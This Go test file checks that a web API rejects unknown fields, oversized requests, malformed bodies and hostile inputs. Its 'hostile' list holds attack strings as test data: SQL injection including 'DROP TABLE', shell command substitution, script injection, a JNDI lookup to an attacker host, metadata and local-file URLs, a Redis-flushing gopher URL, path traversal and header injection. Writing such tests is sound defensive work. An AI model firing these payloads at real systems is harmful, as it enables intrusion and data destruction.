package api

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/passbook/passbook/internal/test/openapi"
)

// withBody returns the operations that take a body.
func withBody(t *testing.T) []operation {
	t.Helper()
	return slices.DeleteFunc(operations(t), func(o operation) bool { return o.body == nil })
}

// set returns the operation's request with a member of its body set to a literal.
func (o operation) set(t *testing.T, these names, name, literal string) probe {
	t.Helper()
	p := o.request(t, these)
	rest := maps.Clone(o.body)
	delete(rest, name)
	body := asJSON(t, rest)
	comma := ","
	if len(rest) == 0 {
		comma = ""
	}
	p.body = "{" + asJSON(t, name) + ":" + literal + comma + body[1:]
	return p
}

// A member that a route does not take is refused, and the request does nothing: among them are
// all that any answer shows, all columns that a request might try to set, and what other languages
// and databases would take for more than a name.
func TestSecurity_UnknownMembers(t *testing.T) {
	t.Parallel()
	s := start(t)
	v := newVictim(t, s)
	before := v.state()
	for _, o := range withBody(t) {
		t.Run(o.String(), func(t *testing.T) {
			c := v.in(t)
			for name := range members(t) {
				if _, takes := o.body[name]; takes || o.takes(name) {
					continue
				}
				unknown := "/" + pointers.Replace(name) + " unknown_field"
				o.set(t, v.theirs, name, `"`+v.userID.String()+`"`).send(c).wantFault(unknown)
				for list, value := range o.body { // of objects
					if item, ok := firstObject(value); ok {
						item["x-unknown"] = v.userID
						o.set(t, v.theirs, list, asJSON(t, []any{item})).send(c).wantFault("/" + list + "/0/x-unknown unknown_field")
					}
				}
			}
		})
	}
	v.wantUnharmed(before)
}

// wantFault fails the test unless the request is refused and this fault is among its faults: a JSON
// pointer, a space and a code.
func (a answer) wantFault(want string) {
	a.t.Helper()
	var faults []string
	for _, fault := range decode[problemJSON](a.want(http.StatusUnprocessableEntity)).Errors {
		if fault.Pointer != nil {
			faults = append(faults, *fault.Pointer+" "+fault.Code)
		}
	}
	if !slices.Contains(faults, want) {
		a.t.Errorf("faults %q, want %q", faults, want)
	}
}

// firstObject returns a copy of the first object of a list.
func firstObject(value any) (object map[string]any, ok bool) {
	list, _ := value.([]any)
	if len(list) == 0 {
		return nil, false
	}
	object, ok = list[0].(map[string]any)
	return maps.Clone(object), ok
}

// members are names of members, of every schema of the contract and more.
func members(t *testing.T) map[string]bool {
	t.Helper()
	c, err := theContract()
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]bool{}
	for _, name := range c.Members() {
		all[name] = true
	}
	if len(all) == 0 {
		t.Fatal("no schema has members")
	}
	for _, name := range []string{
		"user_id", "owner", "userId", "account_id", "role", "roles", "is_admin", "admin", "scope", "permissions", "password_hash",
		"email_key", "revoked_at", "position", "attempts", "done_to", "answered_until", "open_key", "settling",
		"__proto__", "constructor", "$where", "$ref", "@type", "_method", "Amount", "AMOUNT", "amount ", "ａmount", "amount[]", "/amount",
	} {
		all[name] = true
	}
	return all
}

// takes reports whether the schema of the request has the member.
func (o operation) takes(name string) bool { return slices.Contains(o.members, name) }

// What is too much is refused at once on every route, with a bounded answer.
func TestSecurity_TooMuch(t *testing.T) {
	t.Parallel()
	s := start(t)
	v := newVictim(t, s)
	before := v.state()
	const most = 8 << 10 // of an answer that refuses
	refuse := func(a answer, status int) {
		a.t.Helper()
		if a.want(status); len(a.body) > most {
			a.t.Errorf("%d bytes refuse a request", len(a.body))
		}
	}
	for _, o := range operations(t) {
		t.Run(o.String(), func(t *testing.T) {
			c, p := v.in(t), o.request(t, v.theirs)
			mark := queryMark(p.target)
			refuse(c.send(p.method, p.target+mark+manyParameters(500), p.body, p.headers...), http.StatusBadRequest)
			refuse(c.send(p.method, p.target+mark+"x="+strings.Repeat("%00", 4000), p.body, p.headers...), http.StatusBadRequest)
			refuse(c.send(p.method, p.target, strings.Repeat(" ", maxBody+1), p.headers...), http.StatusRequestEntityTooLarge)
			long := append(slices.Clone(p.headers), "X-Long", strings.Repeat("x", maxHead))
			refuse(c.send(p.method, p.target, p.body, long...), http.StatusRequestHeaderFieldsTooLarge)
			for _, param := range o.params {
				if param.Name != "limit" {
					continue
				}
				for _, limit := range []string{"0", "-1", "101", "1e2", "1.0", "+1", "01", "", "all", "9223372036854775808", "2147483648"} {
					refuse(c.get(p.target+"?limit="+url.QueryEscape(limit)), http.StatusBadRequest)
				}
			}
			if o.body == nil {
				return
			}
			refuse(c.send(p.method, p.target, manyMembers(1000), p.headers...), http.StatusUnprocessableEntity)
			refuse(c.send(p.method, p.target, strings.Repeat("[", maxBody/2)+strings.Repeat("]", maxBody/2), p.headers...), http.StatusBadRequest)
			refuse(c.send(p.method, p.target, strings.Repeat(`{"a":`, 10_500)+"1"+strings.Repeat("}", 10_500), p.headers...), http.StatusBadRequest)
			for _, coding := range []string{"gzip", "deflate", "br", "zstd", "identity, gzip", "compress"} {
				coded := append(slices.Clone(p.headers), "Content-Encoding", coding)
				refuse(c.send(p.method, p.target, zipped(t, p.body), coded...), http.StatusUnsupportedMediaType)
			}
			for _, mediaType := range []string{"", "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json-patch+json"} {
				typed := append(slices.Clone(p.headers), "Content-Type", mediaType)
				refuse(c.send(p.method, p.target, p.body, typed...), http.StatusUnsupportedMediaType)
			}
		})
	}
	v.wantUnharmed(before)
}

func manyParameters(n int) string {
	var query strings.Builder
	for i := range n {
		fmt.Fprintf(&query, "x%d=1&", i)
	}
	return query.String()
}

func manyMembers(n int) string {
	var object strings.Builder
	for i := range n {
		fmt.Fprintf(&object, `,"x%d":1`, i)
	}
	return "{" + object.String()[1:] + "}"
}

func zipped(t *testing.T, text string) string {
	t.Helper()
	var buffer bytes.Buffer
	w := gzip.NewWriter(&buffer)
	if _, err := w.Write([]byte(text)); err != nil || w.Close() != nil {
		t.Fatal("not zipped")
	}
	return buffer.String()
}

// hostile are texts that other programs take for more than text.
var hostile = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `1; SELECT pg_sleep(10)`, `$1`, `%s%n%x`, `\`, `"`, `'`, "`id`", `$(id)`, `| id`,
	`<script>alert(1)</script>`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `=cmd|' /C calc'!A0`,
	`http://169.254.169.254/latest/meta-data/`, `file:///etc/passwd`, `//evil.example`, `gopher://127.0.0.1:6379/_FLUSHALL`,
	`../../../../etc/passwd`, `..%2f..%2f`, `.`, `..`, `*`, `%`, `_`, `%25`, `%00`, "a\x00b", "\r\nSet-Cookie: a=b", "\u202e", "\ufeff", "\u0000", "\xff\xfe",
	`null`, `true`, `NaN`, `-0`, `1e400`, `0x10`, `9223372036854775808`, `undefined`, ``, ` `, `[]`, `{}`,
	"é", "e\u0301", "ﬁ", "İ", "ſ", "K", "🐖", strings.Repeat("a", 1000),
}

// literals are JSON values of every kind, in the place of any other.
var literals = []string{
	`null`, `true`, `[]`, `{}`, `[[[]]]`, `{"$ne":null}`, `-1`, `0`, `1e400`, `-0.0`, `1E-400`, `9223372036854775807`, `99999999999999999999`,
	`"\u0000"`, `"\ud83d\udc16"`, `"100"`, `[1]`, `{"amount":1}`,
}

// A hostile text or value, anywhere in a request, is refused or taken as the text that it is. The
// answer is one that the contract has; it never blames the server.
func TestSecurity_HostileValues(t *testing.T) {
	t.Parallel()
	s := start(t)
	for _, o := range operations(t) {
		t.Run(o.String(), func(t *testing.T) {
			if !o.hashes() { // passwords that are hashed at once wait for each other, for a second at most
				t.Parallel()
			}
			v := newVictim(t, s)
			for p := range o.hostile(t, v) {
				a := p.send(v.client)
				if a.status >= http.StatusInternalServerError || strings.Contains(a.header.Get("Set-Cookie"), "a=b") {
					t.Errorf("%s %s %.200s %q: got %s", p.method, p.target, p.body, p.headers, a)
				}
			}
			s.anonymous(t).get("/livez").want(http.StatusOK)
		})
	}
}

// hostile yields requests with a hostile value in each place.
func (o operation) hostile(t *testing.T, v victim) func(yield func(probe) bool) {
	t.Helper()
	return func(yield func(probe) bool) {
		for _, param := range o.params {
			for _, text := range hostile {
				if p, ok := o.replaced(t, v, param, text); ok && !yield(p) {
					return
				}
			}
		}
		for name := range o.body {
			values := slices.Clone(literals)
			if !o.hashes() {
				for _, text := range hostile {
					values = append(values, strings.ReplaceAll(asJSON(t, text), `\ufffd`, "\xff"))
				}
			}
			for _, literal := range values {
				if !yield(o.set(t, v.theirs, name, literal)) {
					return
				}
			}
		}
	}
}

// hashes reports whether a valid request hashes a password, which takes long.
func (o operation) hashes() bool {
	for name := range o.body {
		if strings.Contains(name, "password") {
			return true
		}
	}
	return false
}

// replaced returns the request with the text in a parameter. A header can't have every text.
func (o operation) replaced(t *testing.T, v victim, param openapi.Parameter, text string) (p probe, ok bool) {
	t.Helper()
	switch param.In {
	case "path":
		if strings.Trim(text, ".") == "" { // a part of dots is a step in the path
			return probe{}, false
		}
		these := maps.Clone(v.theirs)
		these[param.Name] = url.PathEscape(text)
		return o.request(t, these), true
	case "query":
		p = o.request(t, names{"number": v.theirs["number"], "id": v.theirs["id"], "seq": v.theirs["seq"]})
		p.target += "?" + url.Values{param.Name: {text}}.Encode()
		return p, !slices.Contains(o.types, eventStream)
	case "header":
		isValid := !strings.ContainsAny(text, "\r\n\x00") && text != ""
		p = o.request(t, v.theirs).with(param.Name, text)
		if o.isFile() {
			p.method = http.MethodHead
		}
		return p, isValid && !slices.Contains(o.types, eventStream)
	}
	return probe{}, false
}

// isFile reports whether the response is a file of the build. A file has up to 1.4 MB, so a test that
// wants only its head leaves out its body.
func (o operation) isFile() bool {
	return o.isOpen && (strings.HasPrefix(o.path, "/docs/") || strings.HasPrefix(o.path, "/openapi."))
}

// A body or a query that is not of the method, or of a duplicate name in another spelling, changes
// nothing: what is read once is read the same way by everything in front of the API.
func TestSecurity_MalformedBodies(t *testing.T) {
	t.Parallel()
	s := start(t)
	v := newVictim(t, s)
	before := v.state()
	for _, o := range withBody(t) {
		t.Run(o.String(), func(t *testing.T) {
			c, p := v.in(t), o.request(t, v.theirs)
			name := slices.Sorted(maps.Keys(o.body))[0]
			member := asJSON(t, name) + ":" + asJSON(t, o.body[name])
			escaped := fmt.Sprintf(`"\u%04x%s:`, name[0], asJSON(t, name[1:])[1:]) + asJSON(t, o.body[name])
			for what, body := range map[string]string{
				"Empty":            "",
				"Twice":            "{" + member + "," + member + "}",
				"TwiceByEscape":    "{" + member + "," + escaped + "}",
				"Trailing":         p.body + "{}",
				"TrailingComma":    strings.TrimSuffix(p.body, "}") + ",}",
				"Cut":              strings.TrimSuffix(p.body, "}"),
				"ByteOrderMark":    "\ufeff" + p.body,
				"UTF16":            "\xff\xfe{\x00}\x00",
				"InvalidUTF8":      "{\"\xff\":1," + member + "}",
				"Comment":          "/**/" + p.body,
				"SingleQuotes":     strings.ReplaceAll(p.body, `"`, `'`),
				"NUL":              p.body + "\x00",
				"Form":             url.Values{name: {"1"}}.Encode(),
				"LoneSurrogate":    `{"\ud800":1,` + member + "}",
				"RecordSeparators": "\x1e" + p.body + "\n",
			} {
				if a := c.send(p.method, p.target, body, p.headers...); a.status != http.StatusBadRequest ||
					decode[problemJSON](a).Code != "malformed_body" {
					t.Errorf("%s: got %s", what, a)
				}
			}
			for what, body := range map[string]string{"Array": "[" + p.body + "]", "Text": `"x"`, "Number": "1", "null": "null"} {
				if a := c.send(p.method, p.target, body, p.headers...); a.status != http.StatusUnprocessableEntity {
					t.Errorf("%s: got %s", what, a)
				}
			}
		})
	}
	v.wantUnharmed(before)
}
